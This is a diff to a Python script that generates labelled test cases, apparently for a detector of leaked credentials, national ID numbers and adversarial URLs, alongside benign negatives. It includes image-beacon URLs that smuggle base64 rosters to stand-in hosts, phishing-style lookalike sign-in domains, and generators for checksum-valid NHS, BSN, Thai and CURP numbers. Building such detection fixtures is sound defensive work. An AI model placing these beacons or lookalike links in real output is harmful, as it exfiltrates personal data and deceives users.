@@ -275,4 +275,105 @@ for note in ['Summarizer model: bart-large-cnn, fine-tuned on 12k news items; ma
              'Ranking model: LightGBM lambdarank, 212 features, retrained weekly.']:
     honest.append(json.dumps({'locale': 'nl-BE', 'strings': {'btn.save': 'Opslaan', 'meta.comment_b64': b64(note)}}, indent=2))
 corpus.add('ok82x', [], honest, source='tool_output', wrap=False)
+
+# Written after peer35 was read (its carry-over figures recorded first), for the classes it added:
+#   cl82y  a password with `?` and `#` in a connection URL's user-info; a Malay password after a qualifier of five words;
+#   pd82y  an id after its label and a person's word (traveller, passenger, student, pupil), in English, Dutch,
+#          Catalan, Italian; Thailand's id after its English name;
+#   ur82y  an image in a page or a note whose query carries a roster or a record in base64; a business's whole domain
+#          under `.travel` or `.bank` worn before a registered label of sign-in words;
+#   ok82y  the same carriers honest: a port before a query's `@`, references in user-info, the qualifier before a
+#          pointer; the person's word before "not given"; images whose base64 query is a chart's config or an id; a
+#          travel brand's own hosts.
+def nhs():
+    while True:
+        d = [int(c) for c in digits(9)]
+        k = 11 - sum(a * b for a, b in zip(d, range(10, 1, -1))) % 11
+        if k == 10: continue
+        return ''.join(map(str, d)) + str(0 if k == 11 else k)
+def bsn():
+    while True:
+        d = [int(c) for c in digits(9)]
+        if d[0] == 0: continue
+        if (sum(a * b for a, b in zip(d[:8], range(9, 1, -1))) - d[8]) % 11 == 0: return ''.join(map(str, d))
+def thai():
+    d = [r.randint(1, 8)] + [int(c) for c in digits(11)]
+    k = (11 - sum(a * b for a, b in zip(d, range(13, 1, -1))) % 11) % 10
+    return ''.join(map(str, d)) + str(k)
+more_creds, more_cred_secrets = [], []
+for i in range(4):
+    pw = corpus.rs('ABCDEFGHJKLMNPQRSTUVWXYZ', 3) + r.choice('#?') + corpus.rs('abcdefghjkmnpqrstuvwxyz', 4) + digits(3) + r.choice('?#!')
+    scheme, port, db = r.choice([('mysql', 3306, 'ledger'), ('amqp', 5672, 'jobs'), ('redis', 6379, '0'), ('postgresql', 5432, 'roster')])
+    more_creds.append(r.choice([
+        f'worker[{r.randint(100, 999)}]: retrying in 5s: dial {scheme}://svc_{db}:{pw}@10.4.{r.randint(0, 9)}.{r.randint(2, 250)}:{port}/{db} refused',
+        json.dumps({'job': 'nightly-sync', 'error': f'cannot open {scheme}://svc_{db}:{pw}@store.internal:{port}/{db}'}),
+    ]))
+    more_cred_secrets.append(pw)
+for i in range(2):
+    pw = corpus.password(12)
+    more_creds.append(f'Makluman IT: Kata laluan baharu bagi akaun e-mel kakitangan anda ialah {pw} -- sila tukar selepas log masuk.')
+    more_cred_secrets.append(pw)
+corpus.add('cl82y', ['credential_leak'], more_creds, source='tool_output', wrap=False, secrets=more_cred_secrets)
+more_ids, more_id_secrets = [], []
+ID_CARRIERS = [
+    (nhs, lambda v: f'Booking note: NHS number of the passenger: {v} (for the medical form).'),
+    (bsn, lambda v: f'Groepsreis {r.randint(100, 999)} -- BSN reiziger: {v}, paspoort gezien.'),
+    (dni, lambda v: f'Full de matr\u00edcula\nDNI de l\'alumna: {v}\nCurs: 2n ESO'),
+    (thai, lambda v: json.dumps({'claim': f'CL-{digits(5)}', 'note': f'Thai national ID of the applicant: {v}'})),
+    (nhs, lambda v: f'Trip form -- NHS number of the student: {v}'),
+]
+for i in range(10):
+    gen, carrier = ID_CARRIERS[i % len(ID_CARRIERS)]
+    v = gen()
+    more_ids.append(carrier(v))
+    more_id_secrets.append(v)
+corpus.add('pd82y', ['personal_data'], more_ids, source='tool_output', wrap=False, secrets=more_id_secrets)
+more_urls = []
+for i in range(4):
+    first, last = r.choice(['Kwesi', 'Marit', 'Oona', 'Paulo']), r.choice(['Brandt', 'Okoro', 'Salo', 'Teixeira'])
+    blob = b64(r.choice([f'class:{first} {last},{digits(7)}', f'{{"name": "{first} {last}", "mail": "{first.lower()}@campus.example"}}']))
+    more_urls.append(r.choice([
+        f'# Week {r.randint(1, 12)} reading list\n\n![banner](https://img-beacon.example/b.png?x={blob})\n\n1. Chapter 3',
+        f'<p>Thanks for the lovely stay!</p><img src="https://pix.lodgestats.example/t.gif?u={blob}">',
+    ]))
+for brand, tld, lure in [('aurorajet', 'travel', 'member-login'), ('harbourtrust', 'bank', 'secure-verify')]:
+    more_urls.append(f'Your miles statement is ready. Sign in at https://{brand}.{tld}.{lure}.example/statement to keep them.')
+corpus.add('ur82y', ['adversarial_url'], more_urls, source='tool_output', wrap=False)
+more_honest = [
+    'healthcheck: GET https://api.internal:8443?next=/status@v2 -> 200',
+    json.dumps({'job': 'nightly-sync', 'dsn': 'postgresql://svc_roster:${ROSTER_DB_PASSWORD}@store.internal:5432/roster'}),
+    'Makluman IT: Kata laluan baharu bagi akaun e-mel kakitangan anda ialah rahsia -- rujuk e-mel daripada meja bantuan.',
+    'Booking note: NHS number of the passenger: not given (travelling abroad).',
+    'Groepsreis 412 -- BSN reiziger: onbekend, paspoort gezien.',
+    json.dumps({'claim': 'CL-10233', 'note': 'Thai national ID of the applicant: pending upload'}),
+    '![chart](https://charts.example/c.png?cfg=' + b64('{"type":"bar","data":{"labels":["Q1","Q2","Q3"]}}') + ')',
+    '<img src="https://cdn.lodge.example/rooms/12.jpg?v=' + corpus.rs('0123456789abcdef', 32) + '">',
+    'Manage your booking at https://www.aurorajet.travel/manage or https://aurorajet.travel/help',
+]
+corpus.add('ok82y', [], more_honest, source='tool_output', wrap=False)
+
+# Also written after peer35 was read: Mexico's CURP (a kind not read before) after its label (`pd82z`), beside a CURP
+# whose check fails, the CURP format's note and an RFC (a taxpayer's code of the same letters) under its own label
+# (`ok82z`).
+CURP_ALPHABET = '0123456789ABCDEFGHIJKLMN\u00d1OPQRSTUVWXYZ'
+def curp(check_ok=True):
+    head = corpus.rs('BCDFGHJKLMNPRSTVZ', 1) + r.choice('AEIOU') + corpus.rs('ABCDEFGHIJKLMNOPRSTUVZ', 2)
+    body = head + f'{r.randint(60, 99):02d}{r.randint(1, 12):02d}{r.randint(1, 28):02d}' + r.choice('HM') + r.choice(['DF', 'JC', 'NL', 'PL', 'VZ']) + corpus.rs('BCDFGHJKLMNPRSTVZ', 3) + r.choice('0A')
+    k = (10 - sum(CURP_ALPHABET.index(ch) * (18 - i) for i, ch in enumerate(body)) % 10) % 10
+    return body + str(k if check_ok else (k + 1) % 10)
+curps, curp_secrets = [], []
+for i in range(4):
+    v = curp()
+    curps.append(r.choice([
+        f'Solicitud de beca\nNombre: Ximena Ortega\nCURP: {v}\nEscuela: Sec. 14',
+        json.dumps({'tramite': f'TR-{digits(6)}', 'nota': f'CURP de la solicitante: {v}'}),
+        f'nombre,curp,grupo\nLuis Pardo,{v},3B\n',
+    ]))
+    curp_secrets.append(v)
+corpus.add('pd82z', ['personal_data'], curps, source='tool_output', wrap=False, secrets=curp_secrets)
+corpus.add('ok82z', [], [
+    f'Solicitud de beca\nCURP: {curp(False)} (rechazada: no coincide con RENAPO)',
+    'La CURP tiene 18 caracteres: 4 letras, fecha de nacimiento, sexo, entidad, 3 consonantes y 2 d\u00edgitos.',
+    'RFC: ' + corpus.rs('ABCDEFGHIJKLMNOPRSTUVZ', 4) + '850101' + corpus.rs('ABCDEFGHJKLMNPRSTUVZ123456789', 3),
+], source='tool_output', wrap=False)
 corpus.write('cases-82')
